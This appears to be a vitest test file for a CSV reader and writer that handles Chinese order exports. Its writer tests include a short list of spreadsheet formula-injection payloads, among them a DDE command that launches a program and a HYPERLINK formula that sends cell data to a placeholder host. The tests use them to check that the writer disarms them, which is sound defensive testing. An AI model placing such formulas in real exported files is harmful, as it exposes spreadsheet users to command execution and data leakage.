import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readTable } from '../read-table.ts';
import { bytesOf, page } from '../test-files.ts';
import { guardText } from '../write/guard-text.ts';
import { writeCsv } from '../write/write-csv.ts';
import { decodeText } from './decode-text.ts';
import { sniffDelimiter } from './sniff-delimiter.ts';

/** GB18030 bytes of a text, found by decoding: Node only decodes. */
function gbk(text: string): Uint8Array {
  const bytes: number[] = [];
  const decoder = new TextDecoder('gb18030');
  for (const character of text) {
    if (character.charCodeAt(0) < 0x80) {
      bytes.push(character.charCodeAt(0));
      continue;
    }
    const pair = pairs(decoder).get(character);
    if (pair === undefined) throw new Error(`Expected a GBK character, got ${character}`);
    bytes.push(...pair);
  }
  return new Uint8Array(bytes);
}
let known: Map<string, readonly [number, number]> | undefined;
function pairs(decoder: TextDecoder) {
  if (known !== undefined) return known;
  known = new Map();
  for (let high = 0x81; high <= 0xfe; high++) {
    for (let low = 0x40; low <= 0xfe; low++) {
      if (low === 0x7f) continue;
      const character = decoder.decode(new Uint8Array([high, low]));
      if (!known.has(character)) known.set(character, [high, low]);
    }
  }
  return known;
}

async function read(content: string | Uint8Array) {
  const result = await readTable(typeof content === 'string' ? Buffer.from(content) : content, 'a.csv');
  if (!result.ok) throw new Error(`Expected a table, got ${JSON.stringify(result.issues)}`);
  return result.table;
}

async function refusal(content: string | Uint8Array, name = 'a.csv') {
  const result = await readTable(typeof content === 'string' ? Buffer.from(content) : content, name);
  return result.ok
    ? null
    : result.issues.map(({ code, data }) => [code, data?.line].filter((part) => part !== undefined));
}

const ORDERS = '订单编号,买家昵称,数量\r\n001,张三,2\r\n002,李四,3\r\n';

describe('reading CSV', () => {
  it.each([
    ['UTF-8', Buffer.from(ORDERS), 'UTF-8'],
    ['UTF-8 with mark', Buffer.from(`\ufeff${ORDERS}`), 'UTF-8'],
    ['GBK', gbk(ORDERS), 'GBK'],
    ['UTF-16 little', Buffer.from(`\ufeff${ORDERS}`, 'utf16le'), 'UTF-16'],
    ['UTF-16 big', Buffer.from(`\ufeff${ORDERS}`, 'utf16le').swap16(), 'UTF-16'],
    ['UTF-16 without mark', Buffer.from('order,nick\r\n1,a\r\n', 'utf16le'), 'UTF-16'],
  ])('knows %s', async (_name, bytes, encoding) => {
    const table = await read(new Uint8Array(bytes));
    expect(table.encoding).toBe(encoding);
    if (table.header.length === 3) {
      expect(table).toMatchObject({
        header: ['订单编号', '买家昵称', '数量'],
        rows: [
          { line: 2, cells: ['001', '张三', '2'] },
          { line: 3, cells: ['002', '李四', '3'] },
        ],
      });
    } else expect(table.rows).toEqual([{ line: 2, cells: ['1', 'a'] }]);
  });

  it('reads back any GBK text', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...'订单编号金额收货人地址省市区县啊一丁，。（）￥'), { minLength: 4 }),
        (characters) => {
          const text = `${characters.join('')},x\n`;
          expect(decodeText(gbk(text))).toEqual({ text, encoding: 'GBK', damaged: false });
        },
      ),
    );
  });

  it.each([',', '\t', ';', '，', '|'])('finds the delimiter %j', async (delimiter) => {
    const text = [
      ['a', 'b', 'c'],
      ['1', '"x,y;z"', '3'],
      ['4', '5', '6'],
    ]
      .map((row) => row.join(delimiter))
      .join('\n');
    expect(sniffDelimiter(text, { at: 0, line: 1 })).toBe(delimiter);
    expect((await read(text)).rows[1]?.cells).toEqual(['4', '5', '6']);
  });

  it('believes a first line that says sep=', async () => {
    const table = await read('sep=;\r\na;b\r\n1,5;2\r\n');
    expect(table).toMatchObject({ header: ['a', 'b'], rows: [{ line: 3, cells: ['1,5', '2'] }] });
  });

  it('tells the line people see, over quoted line breaks and empty lines', async () => {
    const table = await read('a,b\n"one\ntwo",1\n\n,\nx,2\n');
    expect(table.rows).toEqual([
      { line: 2, cells: ['one\ntwo', '1'] },
      { line: 6, cells: ['x', '2'] },
    ]);
  });

  it('leaves short rows short, and names the row that has more cells than the header', async () => {
    const table = await read('a,b\n1\n1,2,3\n1,2,,\n');
    expect(table.header).toEqual(['a', 'b']);
    expect(table.rows.map(({ cells }) => cells)).toEqual([['1'], ['1', '2', '3'], ['1', '2']]);
    expect(table.rows.map(({ issues }) => issues?.map(({ column, issue }) => [column, issue.code]))).toEqual([
      undefined,
      [[null, 'table.rowTooLong']],
      undefined,
    ]);
  });

  it('names numbers whose last digits a spreadsheet has made zeros of, unless chance explains them', async () => {
    const codes = async (...numbers: readonly string[]) =>
      (await read(`单号,x\n${numbers.map((one) => `${one},1`).join('\n')}\n`)).rows.map(
        ({ issues }) => issues?.[0]?.issue.code,
      );
    const lost = 'table.digitsLost';
    expect(await codes('330123456789012000', '330123456789013000', 'A1')).toEqual([lost, lost, undefined]);
    // Three zeros are chance once in a thousand numbers, one zero in every tenth.
    expect(await codes('330123456789012000', '330123456789012000')).toEqual([lost, lost]);
    expect(await codes('330123456789012000', '330123456789013000', '330123456789013001')).toEqual([
      lost,
      lost,
      undefined,
    ]);
    expect(await codes('6222021234567890', '6222021234567880')).toEqual([undefined, undefined]);
  });

  it('passes over titles above the header', async () => {
    const table = await read('天猫订单导出\n\n订单编号,昵称,数量\n1,a,2\n');
    expect(table).toMatchObject({ header: ['订单编号', '昵称', '数量'], rows: [{ line: 4 }] });
  });

  it('takes stray blanks and spreadsheet wrappings off', async () => {
    const table = await read('a,b,c,d\n  x\u3000,"\t12345678901234567890","=""0012""",\'0013\n');
    expect(table.rows[0]?.cells).toEqual(['x', '12345678901234567890', '0012', '0013']);
  });

  it('takes the end of file of DOS for nothing', async () => {
    expect((await read('a,b\r\n1,2\r\n\x1a')).rows).toEqual([{ line: 2, cells: ['1', '2'] }]);
  });

  it('says at which line a quote is never closed', async () => {
    expect(await refusal('a,b\n1,2\n"open,3\n4,5\n')).toEqual([['table.quote', 3]]);
  });

  it.each([
    ['old Excel', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1]), 'table.oldExcel'],
    ['a web page', '<html><table><tr><td>1</td></tr></table></html>', 'table.webPage'],
    ['nothing', '', 'table.empty'],
    ['blank lines', '\n\n , \n', 'table.empty'],
    ['a PDF', '%PDF-1.7 …', 'table.notATable'],
    [
      'a picture',
      new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 1, 2, 3]),
      'table.notATable',
    ],
    ['too much', new Uint8Array(51 * 1024 * 1024), 'table.tooLarge'],
  ])('refuses %s', async (_name, content, code) => {
    const issues = await refusal(content, 'a.xls');
    expect(issues).toEqual([[code]]);
  });

  it('refuses more rows than a file may have', async () => {
    expect(await refusal(`a\n${'1\n'.repeat(200_030)}`)).toEqual([['table.tooManyRows']]);
  }, 30_000);

  it('reads the sample of a real wholesaler', async (context) => {
    const file = fileURLToPath(
      new URL('../../../../../shared/data/online-retail-sample.csv', import.meta.url),
    );
    if (!existsSync(file)) context.skip('../shared/data/online-retail-sample.csv is not there');
    const table = await read(readFileSync(file));
    expect(table.header).toEqual([
      'InvoiceNo',
      'StockCode',
      'Description',
      'Quantity',
      'InvoiceDate',
      'UnitPrice',
      'CustomerID',
      'Country',
    ]);
    expect(table.rows).toHaveLength(4688);
    expect(new Set(table.rows.map(({ cells }) => cells[0])).size).toBe(236);
    expect(table.rows.filter(({ cells }) => (cells[6] ?? '') === '')).toHaveLength(1177);
    expect(table.rows.every(({ cells }) => cells.every((cell) => cell === cell.trim()))).toBe(true);
  });
});

const PAYLOADS = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ' =1+1',
  '＝1+1',
  '=HYPERLINK("http://x?"&A1,"go")',
  "'=1",
  "''=1",
  '\n=1',
  '\0=1',
];

describe('writing CSV', () => {
  it.each(PAYLOADS)('disarms %j', async (payload) => {
    expect(guardText(payload)).toMatch(/^'/);
    const text = new TextDecoder().decode(await bytesOf(writeCsv([payload], page([[payload, 'ok']]))));
    for (const cell of text.split(/[,\r\n]+/)) expect(cell).not.toMatch(/^"?\s*[=+@＝]/);
  });

  it('leaves real numbers alone and guards numbers that are text', async () => {
    const text = new TextDecoder().decode(
      await bytesOf(writeCsv(['a', 'b', 'c', 'd'], page([[-5, 1.5, '-5', null]]))),
    );
    expect(text).toBe("a,b,c,d\r\n-5,1.5,'-5,\r\n");
  });

  it('reads back what it wrote', async () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 12 }),
      fc.constantFrom(
        ...PAYLOADS,
        '`a',
        "'abc",
        '330123456789012345',
        '1.23E+17',
        '"',
        '""',
        'a,b',
        'x\ny',
        "'1",
        '0012',
        '订单',
      ),
      fc.string({ unit: fc.constantFrom('=', "'", '`', '"', ',', '\n', '\r', '1', '-', ' ', 'a', '订') }),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 6 }),
        async (rows) => {
          const header = ['甲', '乙', '丙'];
          const bytes = await bytesOf(writeCsv(header, page(rows)));
          const table = await read(bytes);
          const meant = rows.map((row) => row.map(plain)).filter((row) => row.some((text) => text !== ''));
          expect(table.header).toEqual(header);
          expect(table.rows.map(({ cells }) => header.map((_title, at) => cells[at] ?? ''))).toEqual(meant);
        },
      ),
      { numRuns: 200 },
    );
  }, 30_000);
});

/** What is left of a text in any file: no outer blanks, no characters that stand for nothing. */
function plain(text: string): string {
  return text
    .toWellFormed()
    .replaceAll(/[^\P{Cc}\t\n\r]|[\ufffe\uffff]/gu, '')
    .replace(/^[\u200b\u2060\ufeff\s]+|[\u200b\u2060\ufeff\s]+$/gu, '')
    .replaceAll('\r\n', '\n');
}
